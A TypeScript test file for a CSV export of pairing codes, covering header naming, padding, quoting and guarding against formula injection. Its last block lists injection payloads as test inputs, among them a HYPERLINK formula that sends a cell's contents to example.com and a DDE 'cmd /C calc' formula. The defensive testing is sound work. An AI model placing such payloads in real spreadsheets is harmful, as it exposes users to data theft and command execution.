import assert from 'node:assert/strict';
import Papa from 'papaparse';
import { type FilledRecord, filledCsv, filledRows } from '../../../../src/rollout/export/filled-spreadsheet';

const aFilled = (values: readonly string[], fields: Partial<FilledRecord> = {}): FilledRecord => ({
  values,
  code: '012345',
  pairingCodeId: 'PC-1',
  state: 'done',
  fetchedAt: '2030-06-15T12:00:00.000Z',
  ...fields,
});
const BARE = { code: undefined, pairingCodeId: undefined, state: 'failed', fetchedAt: undefined };

describe('filledRows', () => {
  it('puts the codes behind their columns, which stay as they are', () => {
    const records = [aFilled(['Berlin', ' EP-1 ', '0007']), aFilled(['Bern', 'EP-2', ''], BARE)];
    assert.deepEqual(filledRows({ header: ['Site', 'ID', ''], records, columnCount: 3 }), [
      ['Site', 'ID', '', 'Pairing code', 'Pairing code ID', 'State', 'Fetched at'],
      ['Berlin', ' EP-1 ', '0007', '012345', 'PC-1', 'done', '2030-06-15T12:00:00.000Z'],
      ['Bern', 'EP-2', '', '', '', 'failed', ''],
    ]);
  });

  it('names the columns of a list without a header', () => {
    const [header] = filledRows({ header: undefined, records: [aFilled(['EP-1'])], columnCount: 2 });
    assert.deepEqual(header?.slice(0, 3), ['Column 1', 'Column 2', 'Pairing code']);
  });

  it('pads short rows, and cuts no long one', () => {
    const rows = filledRows({
      header: ['ID'],
      records: [aFilled([]), aFilled(['EP-1', 'x'])],
      columnCount: 1,
    });
    assert.deepEqual(
      rows.map((row) => row.slice(0, 3)),
      [
        ['ID', '', 'Pairing code'],
        ['', '', '012345'],
        ['EP-1', 'x', '012345'],
      ],
    );
  });

  it('gives its columns names that theirs do not have', () => {
    const header = ['ID', 'pairing code', 'Pairing code (2)', ' State ', 'Fetched at'];
    const [names] = filledRows({ header, records: [], columnCount: 5 });
    assert.deepEqual(names, [
      ...header,
      'Pairing code (3)',
      'Pairing code ID',
      'State (2)',
      'Fetched at (2)',
    ]);
  });
});

describe('filledCsv', () => {
  const rows = filledRows({
    header: ['ID', 'Note'],
    records: [aFilled(['EP-1', '=1+1'], { code: '=2', pairingCodeId: '-3' })],
    columnCount: 2,
  });

  it('has a byte order mark and CRLF, and quotes where they are needed', () => {
    const text = filledCsv([['a"b', 'c\nd', 'e;f', ' g', 'h', '1', 'i', 'j', 'k']], {
      delimiter: ';',
      guardValues: false,
    });
    assert.equal(text, '\ufeff"a""b";"c\nd";"e;f";" g";h;1;i;j;k');
    assert.equal(filledCsv(rows, { delimiter: ',', guardValues: false }).split('\r\n').length, 2);
  });
});

describe('a code in a CSV file', () => {
  /** Writes a code, and reads it as a spreadsheet does. */
  const codeInCsv = (code: string) => {
    const record = { values: ['EP-1'], code, pairingCodeId: undefined, state: 'done', fetchedAt: undefined };
    const rows = filledRows({ header: undefined, records: [record], columnCount: 1 });
    const csv = filledCsv(rows, { delimiter: ',', guardValues: false });
    return Papa.parse<string[]>(csv, { delimiter: ',', newline: '\r\n' }).data[1]?.[1];
  };

  const formulas = [
    '=HYPERLINK("http://example.com?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    ' =1',
    '\u00a0=1',
    '\u200b=1',
    '\0=1',
    '＝1',
    '\ttab',
    "'=1",
    "''-1",
  ];
  for (const text of formulas) {
    it(`guards a formula so that it can be restored: ${JSON.stringify(text)}`, () => {
      assert.equal(codeInCsv(text), `'${text}`);
    });
  }

  for (const text of ["'", "'a", 'a=1', 'a-b', '1-2', '', '…=']) {
    it(`adds no guard where none is needed: ${JSON.stringify(text)}`, () => {
      assert.equal(codeInCsv(text), text);
    });
  }
});
